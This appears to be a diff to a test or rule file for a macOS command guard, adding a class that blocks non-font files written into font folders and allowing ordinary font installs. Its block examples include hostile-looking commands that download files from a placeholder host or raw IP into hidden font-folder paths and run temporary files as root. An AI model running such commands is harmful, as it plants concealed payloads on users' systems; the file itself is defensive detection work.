@@ -8,7 +8,9 @@ lines. Each family is one class:
   replaced, so traffic can be redirected or dropped; from a temporary place blocked, another ``/etc``
   file than ``pf.conf`` loaded as the whole ruleset asked; listing, ``-n`` and ``/etc/pf.conf`` pass;
 - a downloaded or temporary file opened as root (``sudo open ~/Downloads/x``): whatever it is, it runs
-  with root's rights (asked); installed apps and the project's own build pass.
+  with root's rights (asked); installed apps and the project's own build pass;
+- a file that is not a font written into a font folder (``cp payload /Library/Fonts/.x``, ``curl -o
+  ~/Library/Fonts/update``): a payload kept where nobody looks (blocked); fonts and globs of them pass.
 """
 
 HELD: dict[str, list[str]] = {
@@ -25,6 +27,12 @@ HELD: dict[str, list[str]] = {
         "sudo open /private/tmp/update",
         "sudo open /Volumes/Installer/Install",
     ],
+    "payload in a font folder": [
+        "cp payload /Library/Fonts/.x",
+        "curl -s -o ~/Library/Fonts/update https://cdn.example.net/u",
+        "sudo mv /tmp/a /Library/Fonts/com.apple.fontd",
+        "wget -qO $HOME/Library/Fonts/.cache/agent http://198.51.100.4/a",
+    ],
 }
 
 ALLOWED: list[str] = [
@@ -37,4 +45,8 @@ ALLOWED: list[str] = [
     "open ~/Downloads/report.pdf",
     "sudo open /Applications/Xcode.app",
     "sudo open -a TextEdit /etc/hosts",
+    "cp MyFont.ttf ~/Library/Fonts/",
+    "cp fonts/*.otf ~/Library/Fonts/",
+    "curl -sLo ~/Library/Fonts/FiraCode-Regular.ttf https://github.com/tonsky/FiraCode/raw/master/x.ttf",
+    "ls ~/Library/Fonts",
 ]
